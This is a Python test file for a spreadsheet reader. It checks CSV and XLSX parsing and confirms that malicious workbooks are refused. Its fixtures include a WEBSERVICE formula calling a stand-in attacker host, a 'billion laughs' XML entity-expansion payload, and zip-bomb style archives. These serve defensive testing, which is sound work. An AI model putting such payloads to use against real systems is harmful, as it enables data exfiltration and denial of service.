"""Sheets as people send them, and what is no sheet."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook

from factory.sheets import Column, Unreadable, as_csv, as_xlsx, head, read
from factory.sheets.reading import MOST_BYTES, MOST_LINES


def lines(content):
    return [(line.number, *line.cells) for line in read(content)]


def book(rows, **parts):
    """An XLSX with these rows, and more parts: name -> bytes."""
    made = Workbook()
    for row in rows:
        made.active.append(row)
    file = io.BytesIO()
    made.save(file)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return file.getvalue()


def changed(content, name, change):
    """An XLSX with one of its parts changed."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", 8) as new:
        for part in old.infolist():
            bytes_ = old.read(part)
            new.writestr(part.filename, change(bytes_) if part.filename == name else bytes_)
    return made.getvalue()


@pytest.mark.parametrize("sign", [";", ",", "\t"])
@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_csv_of_every_excel_is_understood(sign, code):
    text = f"Naam{sign}Plaats\r\nCafé{sign}'s-Gravenhage\r\n"
    assert lines(text.encode(code)) == [(1, "Naam", "Plaats"), (2, "Café", "'s-Gravenhage")]


def test_lines_keep_the_numbers_they_have_in_the_file():
    text = 'a;b\n\n"twee\nregels";x\n;;\nlaatste'
    assert lines(text.encode()) == [(1, "a", "b"), (3, "twee\nregels", "x"), (6, "laatste")]
    assert lines(b"sep=;\r\na;b\r\n") == [(2, "a", "b")]


def test_xlsx_becomes_text_as_somebody_reads_it():
    found = lines(book([["Naam", "KvK"], [None], ["Zon", 12345678, 1.5, date(2026, 3, 1), True]]))
    assert found == [(1, "Naam", "KvK"), (3, "Zon", "12345678", "1.5", "01-03-2026", "ja")]


def test_what_we_wrote_ourselves_comes_back_as_it_was():
    rows = ["=1", "+31 6 1", "01234567", "Café; bar"]
    for made in (
        b"".join(as_csv([Column("x", str)], rows)),
        as_xlsx([Column("x", str)], rows).read(),
    ):
        assert [line[1] for line in lines(made)] == ["x", *rows]


def test_a_formula_gives_what_was_saved_with_it_and_is_never_made():
    assert lines(book([["a", '=WEBSERVICE("https://evil.example")']])) == [(1, "a")]


def test_links_to_other_files_are_left_alone():
    external = {"xl__externalLinks__externalLink1.xml": b'<externalLink xmlns="x"/>'}
    assert lines(book([["a"]], **external)) == [(1, "a")]


def test_a_quick_look_reads_the_first_line():
    assert head(b"\n\nnaam;kvk\nx").cells == ("naam", "kvk")


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "leeg"),
        (b"\n;;\n", "leeg"),
        (b"\x00\x01\x02", "geen spreadsheet"),
        (b"\x89PNG\r\n\x1a\n\x00", "geen spreadsheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "oud Excel-bestand"),
        (b"PK\x03\x04 and nothing more", "beschadigd"),
        (b"x" * (MOST_BYTES + 1), "te groot"),
        (b"a\n" * (MOST_LINES + 1), "meer dan"),
        (b"a" + b";a" * 100, "kolommen"),
        (b'a;b\n"' + b"x" * 200_000, "Regel 2"),
    ],
)
def test_what_is_no_sheet_is_refused_in_words(content, words):
    with pytest.raises(Unreadable, match=words):
        read(content)


def zipped(**parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return file.getvalue()


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (zipped(word__document_xml=b"x"), "geen spreadsheet"),
        (book([["a"]], **{"xl__media__x.bin": b"\x00" * 70_000_000}), "veel groter"),
        (book([["a"]], **{"xl__media__x.bin": b"\x00" * 2_000_000}), "veel groter"),
        (book([["a"]], **{f"xl__media__{n}": b"" for n in range(501)}), "veel groter"),
        (changed(book([["a"]]), "xl/worksheets/sheet1.xml", lambda _old: LAUGHS), "niet in hoort"),
        (
            changed(
                book([["a"]]), "xl/workbook.xml", lambda _old: LAUGHS.decode().encode("utf-16")
            ),
            "niet in hoort",
        ),
        (changed(book([["a"]]), "xl/worksheets/sheet1.xml", lambda old: old[:-30]), "beschadigd"),
        (changed(book([["a"]]), "xl/workbook.xml", lambda _old: b"<x/>"), "beschadigd"),
    ],
)
def test_a_workbook_that_is_a_trap_is_refused_before_it_is_opened(content, words):
    with pytest.raises(Unreadable, match=words):
        read(content)


def test_a_sheet_that_says_it_is_a_million_lines_long_is_read_as_far_as_it_goes():
    huge = changed(
        book([["a", "b"]]),
        "xl/worksheets/sheet1.xml",
        lambda old: old.replace(b'ref="A1:B1"', b'ref="A1:XFD1048576"'),
    )
    assert lines(huge) == [(1, "a", "b")]
